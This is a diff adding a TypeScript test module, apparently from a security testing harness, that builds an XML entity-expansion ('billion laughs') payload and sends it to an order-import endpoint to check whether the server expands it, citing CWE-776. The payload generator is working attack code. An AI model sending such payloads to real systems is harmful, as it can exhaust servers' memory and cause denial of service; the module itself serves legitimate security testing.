@@ -1,0 +1,37 @@
+import type { Attack } from "../attack.ts";
+import { summary } from "../exchange.ts";
+import { feed, importFeed, importedNotes, importTwin } from "./shared/requests.ts";
+
+/** Entities of which each is eight of the one before: 8^5 times ten characters from a document of half a kilobyte. */
+const LEVELS = 5;
+const WORD = "expansion ";
+
+function bomb(): string {
+  const entities = [`<!ENTITY e0 "${WORD}">`];
+  for (let level = 1; level <= LEVELS; level += 1) {
+    entities.push(`<!ENTITY e${level} "${`&e${level - 1};`.repeat(8)}">`);
+  }
+  return feed(`&e${LEVELS};`, `<!DOCTYPE orders [${entities.join("")}]>`);
+}
+
+export const xmlEntityExpansion: Attack = {
+  id: "xml-entity-expansion",
+  title: "Make a small XML document grow in the server (entity expansion)",
+  owasp: ["SAS-4", "API4:2023", "CWE-776"],
+  paper: "III.2.C",
+  layers: ["function:xml-doctype", "function:xml-limits", "function:order-schema", "database:column"],
+  operation: "importOrders",
+  target: "order-import",
+  run: async (context) => {
+    const document = bomb();
+    const answer = await context.send(importFeed(context, document));
+    const longest = Math.max(0, ...importedNotes(answer).map((note) => note.length));
+    const factor = Math.floor(longest / document.length);
+    const effect = factor >= 100;
+    return {
+      effect,
+      evidence: effect ? `${document.length} bytes became a note of ${longest}: ${factor} times` : summary(answer),
+    };
+  },
+  twin: importTwin,
+};
